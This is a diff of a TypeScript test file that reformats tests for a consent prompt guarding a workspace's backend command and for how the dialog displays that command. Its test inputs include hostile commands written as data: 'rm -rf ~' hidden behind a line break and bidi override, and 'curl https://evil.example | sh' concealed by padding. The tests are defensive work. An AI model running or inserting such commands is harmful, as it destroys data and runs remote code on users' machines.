@@ -16,7 +16,7 @@ function memento(): AnswerStore & { data: Map<string, unknown> } {
   };
 }
 
-describe('consent to a workspace\'s backend command', () => {
+describe("consent to a workspace's backend command", () => {
   it('asks once per folder and command, remembers yes and no, and asks again for a changed command', async () => {
     const asked: string[] = [];
     let answer: 'run' | 'refuse' | undefined = 'run';
@@ -28,9 +28,17 @@ describe('consent to a workspace\'s backend command', () => {
     assert.equal(await consent.allows('file:///a', 'a', 'php -S 127.0.0.1:{port}'), true);
     assert.deepEqual(asked, ['a: php -S 127.0.0.1:{port}'], 'remembered');
     answer = 'refuse';
-    assert.equal(await consent.allows('file:///a', 'a', 'php -S 127.0.0.1:{port} -t public'), false, 'a changed command is a new question');
+    assert.equal(
+      await consent.allows('file:///a', 'a', 'php -S 127.0.0.1:{port} -t public'),
+      false,
+      'a changed command is a new question',
+    );
     assert.equal(await consent.allows('file:///a', 'a', 'php -S 127.0.0.1:{port} -t public'), false);
-    assert.equal(await consent.allows('file:///b', 'b', 'php -S 127.0.0.1:{port}'), false, 'another folder is asked for itself');
+    assert.equal(
+      await consent.allows('file:///b', 'b', 'php -S 127.0.0.1:{port}'),
+      false,
+      'another folder is asked for itself',
+    );
     assert.equal(asked.length, 3);
   });
 
@@ -51,7 +59,9 @@ describe('consent to a workspace\'s backend command', () => {
     const store = memento();
     const consent = new BackendConsent(store, () => {
       asked++;
-      return new Promise((resolve) => { answer = resolve; });
+      return new Promise((resolve) => {
+        answer = resolve;
+      });
     });
     const both = Promise.all([consent.allows('file:///a', 'a', 'x'), consent.allows('file:///a', 'a', 'x')]);
     answer('run');
@@ -70,7 +80,10 @@ describe('the backend command as the consent dialog shows it', () => {
   const escape = (t: string) => printable(t);
 
   it('makes control characters, line breaks and bidi overrides visible', () => {
-    assert.equal(visibleCommand('php -S 127.0.0.1:{port}\nrm -rf ~\r\u202e', escape), 'php -S 127.0.0.1:{port}\\x0arm -rf ~\\x0d\\u202e');
+    assert.equal(
+      visibleCommand('php -S 127.0.0.1:{port}\nrm -rf ~\r\u202e', escape),
+      'php -S 127.0.0.1:{port}\\x0arm -rf ~\\x0d\\u202e',
+    );
     assert.equal(visibleCommand('a\u001b[8mhidden\u001b[0m', escape), 'a\\x1b[8mhidden\\x1b[0m');
   });
 
@@ -80,7 +93,10 @@ describe('the backend command as the consent dialog shows it', () => {
     assert.match(shown, /php -S 127\.0\.0\.1:\{port\} \[300 spaces\] ; curl https:\/\/evil\.example\/x \| sh/);
     const long = `node -e "${'x'.repeat(500)}" && curl https://evil.example | sh`;
     const lines = visibleCommand(long, escape).split('\n');
-    assert.ok(lines.every((l) => l.length <= 80), 'no line longer than 80');
+    assert.ok(
+      lines.every((l) => l.length <= 80),
+      'no line longer than 80',
+    );
     assert.equal(lines.at(-1), `(${long.length} characters)`);
     assert.equal(lines.slice(0, -1).join('').replace(/ /g, ''), long.replace(/ /g, ''), 'every character is there');
   });
